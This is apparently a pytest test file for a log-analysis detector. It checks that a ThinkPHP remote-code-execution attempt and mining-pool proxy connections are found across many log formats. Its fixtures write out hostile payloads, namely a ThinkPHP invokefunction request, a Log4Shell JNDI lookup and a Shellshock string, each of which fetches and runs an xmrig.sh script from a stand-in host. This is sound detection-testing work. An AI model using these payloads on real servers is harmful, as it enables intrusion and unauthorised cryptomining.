"""The same attack, as it comes out of whatever people have: containers, chats, exports, proxies, clouds, editors.

One request of a miner campaign is written in each layout and carried by each carrier; the answer has to name the same
sender and the same attack, and has to have read all lines that are log lines.
"""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from kanaria.core.types import Analysis

SENDER = "198.51.100.7"
PATH = (
    "/index.php?s=/Index/%5Cthink%5Capp/invokefunction&function=call_user_func_array&vars[0]=shell_exec"
    "&vars[1][]=curl%20-fsSL%20http://203.0.113.9/xmrig.sh%20-o%20/tmp/x%3Bsh%20/tmp/x"
)
QUERY = PATH.partition("?")[2]
TIME = "21/Jul/2025:15:40:57 +0000"
LINE = f'{SENDER} - - [{TIME}] "GET {PATH} HTTP/1.1" 404 153 "-" "curl/7.68.0"'
PLAIN = f'{SENDER} - - [{TIME}] "GET /about HTTP/1.1" 200 5153 "-" "Mozilla/5.0"'
CELL = LINE.replace('"', '""')
ISO = "2025-07-21T15:40:57"


def _json(**fields: object) -> str:
    return json.dumps(fields)


CARRIED: dict[str, str] = {
    "colours of docker compose": f"\x1b[36mweb-1  | \x1b[0m{LINE}\n",
    "docker compose": f"nginx_1  | {LINE}\n",
    "kubectl --timestamps": f"{ISO}.123456789Z {LINE}\n",
    "kubectl --prefix --timestamps": f"[pod/web-5d/nginx] {ISO}.123456789Z {LINE}\n",
    "stern": f"web-5d9c nginx {LINE}\n",
    "journalctl -o short-precise": f"Jul 21 15:40:57.123456 srv nginx[123]: {LINE}\n",
    "journalctl -o short-iso": f"{ISO}+0900 srv nginx[123]: {LINE}\n",
    "journalctl -o verbose": (
        f"Mon 2025-07-21 15:40:57.123456 UTC [s=a;i=1]\n    PRIORITY=6\n    _HOSTNAME=srv\n    MESSAGE={LINE}\n    _PID=1\n"
    ),
    "journalctl -o export": f"__CURSOR=s=a;i=1\n_HOSTNAME=srv\nSYSLOG_IDENTIFIER=nginx\nMESSAGE={LINE}\n\n",
    "relp": f"<190>Jul 21 15:40:57 srv nginx: {LINE}\n",
    "RFC 5424": f"<190>1 {ISO}.123+09:00 srv nginx 123 - - {LINE}\n",
    "grep -n": f"12:{LINE}\n13:{PLAIN}\n",
    "cat -n": f"    12\t{LINE}\n",
    "a mail's quote": f"> {LINE}\n> {PLAIN}\n",
    "Slack's code": f"`{LINE}`\n",
    "Teams' blanks": LINE.replace(" ", "\u00a0") + "\n",
    "CloudWatch Insights CSV": f'@timestamp,@message\n2025-07-21 15:40:57.000,"{CELL}"\n',
    "Datadog CSV": f'Date,Host,Service,Message\n"{ISO}.000Z","srv","nginx","{CELL}"\n',
    "Grafana CSV": f'"Time","Line"\n"2025-07-21 15:40:57.000","{CELL}"\n',
    "Sumo Logic CSV": f'"_messagetime","_raw","_source"\n"1753112457000","{CELL}","nginx"\n',
    "Splunk CSV": f'"_raw","_time",host\n"{CELL}","{ISO}.000+0000",srv\n',
    "Grafana text": f"1753112457123456789\t{ISO}.123Z\t{LINE}\n",
    "Elasticsearch hits": json.dumps({"hits": {"hits": [{"_source": {"message": LINE, "@timestamp": f"{ISO}Z"}}]}}, indent=2),
    "a JSON array": json.dumps([{"message": LINE}, {"message": PLAIN}], indent=1),
    "Loki's answer": _json(data={"result": [{"stream": {"app": "nginx"}, "values": [["1753112457123456789", LINE]]}]}),
    "CloudWatch events": _json(events=[{"timestamp": 1753112457000, "message": LINE, "eventId": "1"}]),
    "Loki lines": _json(line=LINE, timestamp=f"{ISO}Z", fields={}) + "\n",
    "Caddy's console": (
        "2025/07/21 15:40:57.123\tINFO\thttp.log.access.log0\thandled request\t"
        + _json(request={"remote_ip": SENDER, "method": "GET", "host": "example.com", "uri": PATH}, size=0, status=404)
        + "\n"
    ),
    "Traefik": f'{SENDER} - - [{TIME}] "GET {PATH} HTTP/1.1" 404 19 "-" "-" 12 "web@docker" "http://172.18.0.3:80" 1ms\n',
    "Traefik JSON": _json(
        ClientHost=SENDER, RequestMethod="GET", RequestPath=PATH, RequestProtocol="HTTP/1.1", DownstreamStatus=404, StartUTC=f"{ISO}Z"
    ),
    "lighttpd": f'{SENDER} example.com - [{TIME}] "GET {PATH} HTTP/1.1" 404 341 "-" "curl/7.68"\n',
    "IIS without its header": f"2025-07-21 15:40:57 192.0.2.10 GET /index.php {QUERY} 80 - {SENDER} curl/7.68 - 404 0 2 15\n",
    "Cloudflare": _json(ClientIP=SENDER, ClientRequestMethod="GET", ClientRequestURI=PATH, EdgeResponseStatus=404),
    "Fastly": _json(timestamp=f"{ISO}+0000", client_ip=SENDER, url=PATH, request_method="GET", response_status=404),
    "AWS ALB": (
        f"http {ISO}.123456Z app/my-alb/50dc {SENDER}:50000 10.0.0.1:80 0.000 0.001 0.000 404 404 34 366"
        f' "GET http://example.com:80{PATH} HTTP/1.1" "curl/7.46.0" - -\n'
    ),
    "Google load balancer": _json(
        httpRequest={"requestMethod": "GET", "requestUrl": f"http://example.com{PATH}", "status": 404, "remoteIp": SENDER},
        timestamp=f"{ISO}Z",
    ),
    "Azure Front Door": _json(
        time=f"{ISO}Z", category="FrontDoorAccessLog",
        properties={"httpMethod": "GET", "requestUri": f"https://example.com:443{PATH}", "clientIp": SENDER, "httpStatusCode": "404"},
    ),
    "Kong": _json(
        request={"uri": PATH, "method": "GET", "headers": {"host": "example.com"}}, response={"status": 404}, client_ip=SENDER
    ),
    "Akamai DataStream": _json(
        reqTimeSec="1753112457", cliIP=SENDER, statusCode="404", reqMethod="GET", reqPath="index.php", queryStr=QUERY
    ),
    "Azure App Service": _json(
        time=f"{ISO}Z", category="AppServiceHTTPLogs",
        properties=_json(CIp=SENDER, CsUriStem="/index.php", CsUriQuery=QUERY, CsMethod="GET", ScStatus=404),
    ),
    "Istio": (
        f'[{ISO}.123Z] "GET {PATH} HTTP/1.1" 404 NR route_not_found - "-" 0 0 0 - "{SENDER}" "curl/7.68" "5f3c" "example.com"'
        f' "-" - - 10.244.0.5:8080 {SENDER}:50000 - -\n'
    ),
    "HAProxy": (
        f"Jul 21 15:40:57 lb haproxy[14389]: {SENDER}:33317 [21/Jul/2025:15:40:57.655] http-in static/srv1 10/0/30/69/109"
        f' 404 2750 - - ---- 1/1/1/1/0 0/0 "GET {PATH} HTTP/1.1"\n'
    ),
    "Squid in front of a server": f"1753112457.123    186 {SENDER} TCP_MISS/404 4523 GET http://example.com{PATH} - FIRSTUP_PARENT/10.0.0.2 -\n",
    "Gitea": (
        f"2025/07/21 15:40:57 ...eb/routing/logger.go:102:func1() [I] router: completed GET {PATH} for {SENDER}:0, 404 Not Found"
        " in 2.1ms @ web/goget.go:21(web.goGet)\n"
    ),
    "NPMplus": f'[{TIME}] example.com {SENDER} 0.001 "GET {PATH} HTTP/2.0" 404 153 "-" "curl/7"\n',
    "ModSecurity's serial audit log": (
        f"--a1b2c3d4-A--\n[{TIME}] YX1 {SENDER} 50000 192.0.2.10 80\n--a1b2c3d4-B--\nGET {PATH} HTTP/1.1\nHost: example.com\n\n"
        "--a1b2c3d4-F--\nHTTP/1.1 404 Not Found\n\n--a1b2c3d4-H--\nServer: Apache\n\n--a1b2c3d4-Z--\n\n"
    ),
    "CrowdSec's alert": _json(
        scenario="crowdsecurity/http-probing", start_at=f"{ISO}Z", source={"ip": SENDER}, events=[{
            "timestamp": f"{ISO}Z", "meta": [{"key": "http_path", "value": PATH}, {"key": "http_status", "value": "404"}],
        }],
    ),
    "Excel's semicolons": f'Zeit;IP;Methode;URL;Status\n2025-07-21 15:40:57;{SENDER};GET;"{PATH}";404\n',
}  # fmt: skip

PROXIES: dict[str, tuple[str, str | None]] = {
    "Dante": (
        "Jul 21 15:40:57 (1753112457.123456) danted[1234]: info: pass(1): tcp/connect [: 192.168.1.20.50000 192.168.1.1.1080"
        " -> 192.168.1.1.40000 pool.supportxmr.com.3333\n",
        "192.168.1.20",
    ),
    "3proxy": (
        "21-07-2025 15:40:57 +0900 SOCK5.1080 00000 user1 192.168.1.20:50000 203.0.113.118:3333 1234 5678 0 CONNECT"
        " pool.supportxmr.com:3333\n",
        "192.168.1.20",
    ),
    "microsocks": ("client[7] 192.168.1.20: connected to pool.supportxmr.com:3333\n", "192.168.1.20"),
    "shadowsocks": (
        "2025-07-21 15:40:57 INFO     connecting pool.supportxmr.com:3333 from 198.51.100.20:50000\n",
        None,
    ),
    "shadowsocks-libev": (" 2025-07-21 15:40:57 INFO: connect to pool.supportxmr.com:3333\n", None),
    "Xray": (
        "2025/07/21 15:40:57 from 198.51.100.20:50000 accepted tcp:pool.supportxmr.com:3333 [vmess -> direct]\n",
        None,
    ),
    "Tinyproxy": (
        "CONNECT   Jul 21 15:40:57.223 [1234]: Request (file descriptor 6): CONNECT pool.supportxmr.com:443 HTTP/1.1\n",
        None,
    ),
    "Clash": (
        'time="2025-07-21T15:40:57.123456789+09:00" level=info msg="[TCP] 192.168.1.20:50000(curl) --> '
        'pool.supportxmr.com:3333 match DomainSuffix(supportxmr.com) using DIRECT"\n',
        "192.168.1.20",
    ),
    "sing-box": (
        "+0900 2025-07-21 15:40:57 INFO [1234567 0ms] inbound/mixed[mixed-in]: inbound connection to"
        " pool.supportxmr.com:3333\n",
        None,
    ),
    "ssh -D": ("debug2: channel 2: dynamic request: socks5 host pool.supportxmr.com port 3333 command 1\n", None),
}


def analysed(path: Path) -> Analysis:
    from kanaria.app.run.engine import Engine
    from kanaria.app.run.pipeline import analyse
    from kanaria.app.run.setup import prepare
    from kanaria.sources import open_inputs

    with Engine(prepare()) as engine:
        return analyse(open_inputs([str(path)]), engine)


@pytest.mark.parametrize("name", CARRIED)
def test_the_sender_and_the_attack_are_named_whatever_carries_them(name: str, tmp_path: Path) -> None:
    path = tmp_path / "given.log"
    path.write_text(CARRIED[name], encoding="utf-8")
    found = analysed(path)
    (incident,) = found.incidents
    assert incident.remotes == (SENDER,)
    assert {"web_thinkphp_rce", "web_download_cradle"} <= {finding.rule for finding in incident.findings}
    assert (incident.severity, incident.outcome.value) == ("low", "no_sign_of_success")
    assert found.coverage.unread == 0


LOOKUP = "${jndi:ldap://203.0.113.9:1389/a}"
SHELL = "() { :; }; wget -qO- http://203.0.113.9/xmrig.sh | bash"
START = f'{SENDER} - - [{TIME}] "GET / HTTP/1.1" 200 153 "-" "Mozilla/5.0"'
CAPTURED = f"Jul 21 15:40:57 lb haproxy[14389]: {SENDER}:33317 [21/Jul/2025:15:40:57.655] http-in static/srv1 10/0/30/69/109 200 2750"
CADDY = {"remote_ip": SENDER, "method": "GET", "host": "example.com", "uri": "/"}
BESIDE = {
    "forwarded for": f'{START} "ATTACK"\n',
    "a cookie and a time": f'{START} "id=ATTACK" rt=0.010\n',
    "HAProxy's captured headers": f'{CAPTURED} - - ---- 1/1/1/1/0 0/0 {{example.com|ATTACK}} "GET / HTTP/1.1"\n',
    "Traefik JSON": _json(
        ClientHost=SENDER, RequestMethod="GET", RequestPath="/", DownstreamStatus=200, request_XApi="ATTACK"
    ),
    "Caddy JSON": _json(request={**CADDY, "headers": {"X-Api-Version": ["ATTACK"], "User-Agent": ["a"]}}, status=200),
}
"""Layouts that write further headers; ATTACK stands in one of them."""


@pytest.mark.parametrize("attack", [LOOKUP, SHELL])
@pytest.mark.parametrize("name", BESIDE)
def test_an_attack_is_found_in_every_header_that_a_log_writes(name: str, attack: str, tmp_path: Path) -> None:
    path = tmp_path / "access.log"
    path.write_text(BESIDE[name].replace("ATTACK", attack))
    (incident,) = analysed(path).incidents
    assert incident.remotes == (SENDER,)
    assert incident.hypotheses[0].name == "exploitation_attempt"


def test_what_is_excused_in_a_parameter_is_not_judged_again_as_a_header(tmp_path: Path) -> None:
    path = tmp_path / "access.log"
    asked = "/?text=curl%20-fsSL%20https://get.example.org/install.sh%20%7C%20bash"
    path.write_text(f'{SENDER} - - [{TIME}] "GET {asked} HTTP/1.1" 200 153 "-" "Mozilla/5.0" "{SENDER}"\n')
    assert analysed(path).incidents == ()


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le", "utf-16-be", "utf-8-sig", "cp932", "euc-jp"])
@pytest.mark.parametrize("end", ["\n", "\r\n", "\r"])
def test_the_bytes_of_other_systems_are_read(encoding: str, end: str, tmp_path: Path) -> None:
    path = tmp_path / "given.log"
    path.write_bytes(f"{LINE}{end}{PLAIN}{end}".encode(encoding))
    found = analysed(path)
    assert (found.coverage.records, found.coverage.unread) == (2, 0)
    assert found.incidents[0].remotes == (SENDER,)


@pytest.mark.parametrize("name", PROXIES)
def test_a_proxy_without_http_says_who_asked_for_a_pool(name: str, tmp_path: Path) -> None:
    line, device = PROXIES[name]
    path = tmp_path / "proxy.log"
    path.write_text(line + line.replace("pool.supportxmr.com", "www.example.com"))
    found = analysed(path)
    (incident,) = found.incidents
    assert [finding.rule for finding in incident.findings] == ["proxied_to_mining_pool"]
    assert (incident.remotes, incident.devices) == (("pool.supportxmr.com",), (device,) if device else ())
    assert incident.severity == "high"


@pytest.mark.parametrize("name", ["mypc", "web-5d9c", "unix:", "unknown", "localhost"])
def test_a_label_is_no_client(name: str, tmp_path: Path) -> None:
    path = tmp_path / "given.log"
    path.write_text(LINE.replace(SENDER, name, 1) + "\n")
    assert analysed(path).incidents[0].remotes == ()


@pytest.mark.parametrize(
    ("text", "word"),
    [
        ('[2021-02-11 12:50:04.289] 192.0.2.1 GET / 404 289 6006ms "(null)"\n', "XMRig"),
        (
            "WARNING 2023-11-20 03:20:11.5661 StratumServer client 192.0.2.10:34027 invalid JSON request\n",
            "mining pool",
        ),
        ("2025-07-21 15:40:57,123 fail2ban.actions [1]: NOTICE [sshd] Ban 198.51.100.7\n", "fail2ban"),
        ("[2025-07-21 15:40:57.123 +09:00] [INF] [12] Jellyfin.Server.Main: started\n", "Jellyfin"),
    ],
)
def test_a_log_that_says_nothing_of_attacks_is_named(text: str, word: str, tmp_path: Path) -> None:
    path = tmp_path / "given.log"
    path.write_text(text * 3)
    found = analysed(path)
    assert found.incidents == ()
    assert word in " ".join(note.en for note in found.notes)


@pytest.mark.parametrize(
    "document",
    [
        [{"message": PLAIN}] * 20,
        {"data": {"result": [{"stream": {"app": "nginx"}, "values": [["1", PLAIN]] * 20}]}},
    ],
    ids=["a list of records", "lists in an answer"],
)
def test_a_document_too_large_to_read_whole_is_read_in_pieces(
    document: object, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from kanaria.formats.carriers import json_documents

    monkeypatch.setattr(json_documents, "LONGEST", 1000)
    monkeypatch.setattr(json_documents, "_BLOCK", 500)
    path = tmp_path / "export.json"
    path.write_text(json.dumps(document, indent=1))
    found = analysed(path)
    assert (found.coverage.records, found.coverage.unread) == (20, 0)


@pytest.mark.parametrize(
    ("status", "severity", "advice"), [(405, "informational", "none"), (200, "medium", "answer_open_proxy")]
)
def test_a_stranger_who_asks_for_a_pool_finds_an_open_proxy_or_none(
    status: int, severity: str, advice: str, tmp_path: Path
) -> None:
    path = tmp_path / "access.log"
    path.write_text(f'{SENDER} - - [{TIME}] "CONNECT pool.supportxmr.com:443 HTTP/1.1" {status} 0 "-" "-"\n')
    (incident,) = analysed(path).incidents
    assert (incident.severity, incident.recommendations[0].id) == (severity, advice)


@pytest.mark.parametrize(
    ("status", "advice"), [(101, "look_at_talk"), (200, "look_at_talk"), (502, "look_at_talk"), (400, "none")]
)
def test_what_takes_a_mining_message_is_looked_at(status: int, advice: str, tmp_path: Path) -> None:
    path = tmp_path / "access.log"
    call = r"{\x22id\x22:1,\x22method\x22:\x22mining.subscribe\x22,\x22params\x22:[]}"
    path.write_text(f'{SENDER} - - [{TIME}] "{call}" {status} 150 "-" "-"\n')
    (incident,) = analysed(path).incidents
    assert incident.recommendations[0].id == advice
